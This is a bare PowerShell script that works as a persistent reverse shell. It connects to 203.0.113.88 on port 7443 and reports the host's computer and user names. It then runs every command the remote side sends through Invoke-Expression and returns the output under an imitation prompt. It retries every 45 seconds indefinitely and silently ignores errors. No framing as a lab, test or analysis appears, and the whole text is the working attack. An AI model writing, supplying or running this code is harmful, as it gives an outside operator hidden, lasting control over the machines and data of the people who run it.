$server = "203.0.113.88"
$port = 7443
while ($true) {
  try {
    $client = New-Object System.Net.Sockets.TcpClient($server, $port)
    $stream = $client.GetStream()
    $reader = New-Object System.IO.StreamReader($stream)
    $writer = New-Object System.IO.StreamWriter($stream)
    $writer.AutoFlush = $true
    $writer.WriteLine("frontdesk $env:COMPUTERNAME $env:USERNAME")
    while (($line = $reader.ReadLine()) -ne $null) {
      try { $out = Invoke-Expression $line 2>&1 | Out-String } catch { $out = $_.Exception.Message }
      $writer.WriteLine($out)
      $writer.Write("PS $((Get-Location).Path)> ")
    }
    $client.Close()
  } catch { }
  Start-Sleep -Seconds 45
}
